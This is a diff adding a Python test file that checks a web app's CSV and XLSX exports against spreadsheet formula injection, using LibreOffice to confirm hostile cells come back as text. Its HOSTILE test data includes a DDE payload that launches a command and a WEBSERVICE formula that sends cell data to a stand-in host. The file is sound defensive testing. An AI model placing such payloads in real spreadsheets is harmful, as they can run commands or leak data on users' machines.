@@ -1,0 +1,95 @@
+"""What a user sees who opens our files in LibreOffice: text stays text, numbers stay numbers, nothing runs."""
+
+import csv
+import io
+from datetime import UTC, datetime
+
+import pytest
+
+from commitments.reports.csv import undefused
+from commitments.reports.xlsx import CUT, LONGEST
+from tests import factories
+from tests.test_csv import LEFT_ALONE, RUN
+from tests.test_exports import body
+
+pytestmark = pytest.mark.django_db
+HOSTILE = RUN | LEFT_ALONE | {
+    "lone plus": "+",
+    "sum": "-2+3",
+    "function": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "external link": "=WEBSERVICE(\"https://evil.example/\"&A1)",
+    "quote first": '"=1+1"',
+    "space first": " =1+1",
+    "escape of a workbook": "_x0041_ and _x000D_",
+    "control characters": "a\x01b\x0bc",
+    "date": "1-2",
+    "exponent": "1E5",
+    "boolean": "TRUE",
+}  # fmt: skip
+
+# A CSV has no types: a text that is a number, whole, is one to a spreadsheet. Our words are none; XLSX keeps them.
+NUMBERS = ("digits", "exponent")
+
+
+@pytest.fixture(autouse=True)
+def the_day_is_fixed(time_machine):
+    time_machine.move_to(datetime(2026, 11, 22, 10, tzinfo=UTC))
+
+
+def hostile_world():
+    """A commitment for each hostile text, which stands in its title, its unit, its owner's name and its note."""
+    for number, text in enumerate(HOSTILE.values()):
+        owner = factories.OrganisationFactory(name=text)
+        one = factories.published(reference=f"HC-{number:02}", title=text, unit=text, owners=[owner], quote=text)
+        factories.record("report", one, note=text)
+
+
+def told(cells):
+    """By title of the column, what stands under it."""
+    header, *rows = cells
+    return [dict(zip(header, row, strict=True)) for row in rows]
+
+
+def plain(text):
+    """A text as any spreadsheet's CSV gives it back: its ends of line in one way."""
+    return text.replace("\r\n", "\n").replace("\r", "\n")
+
+
+def test_libreoffice_runs_a_cell_that_nobody_defused(as_spreadsheet):
+    """Else the next tests would prove nothing."""
+    assert as_spreadsheet(b"a,b\r\n=1+1,'=1+1\r\n", "control.csv")[1] == ["2", "'=1+1"]
+
+
+@pytest.mark.parametrize("ending", ["csv", "xlsx"])
+def test_every_hostile_cell_comes_back_from_libreoffice_as_text(client, as_spreadsheet, ending):
+    hostile_world()
+    rows = told(as_spreadsheet(body(client, f"/commitments.{ending}"), f"hostile.{ending}"))
+    assert len(rows) == len(HOSTILE)
+    for (name, text), row in zip(HOSTILE.items(), rows, strict=True):
+        if ending == "csv" and name in NUMBERS:
+            continue
+        for column in ("title", "unit", "owners", "quote", "note"):
+            assert plain(undefused(row[column])) == plain(text), (text, column)
+
+
+@pytest.mark.parametrize("ending", ["csv", "xlsx"])
+def test_a_text_longer_than_a_cell_may_be_comes_back_as_text(client, as_spreadsheet, ending):
+    note = ("=" + "long, " * 5462)[:32_768]
+    factories.record("report", factories.published(), note=note)
+    [row] = told(as_spreadsheet(body(client, f"/commitments.{ending}"), f"long.{ending}"))
+    assert undefused(row["note"]) == (note if ending == "csv" else note[: LONGEST - len(CUT)] + CUT)
+
+
+@pytest.mark.parametrize("ending", ["csv", "xlsx"])
+def test_a_negative_number_stays_a_number(client, as_spreadsheet, ending):
+    one = factories.published(deadline="2020-01-06")
+    factories.record("report", one, deadline="2020-01-01", deadline_reason="Good weather.")
+    [row] = told(as_spreadsheet(body(client, f"/commitments.{ending}"), f"negative.{ending}"))
+    assert row["slip_days"] == "-5"
+
+
+def test_the_workbook_of_the_release_says_in_libreoffice_what_the_csv_says(release, client, as_spreadsheet):
+    ours = csv.reader(io.StringIO(body(client, "/commitments.csv").decode("utf-8-sig"), newline=""))
+    shown = as_spreadsheet(body(client, "/commitments.xlsx"), "release.xlsx")
+    assert shown == [[undefused(cell) for cell in row] for row in ours]
+    assert len(shown) == 58
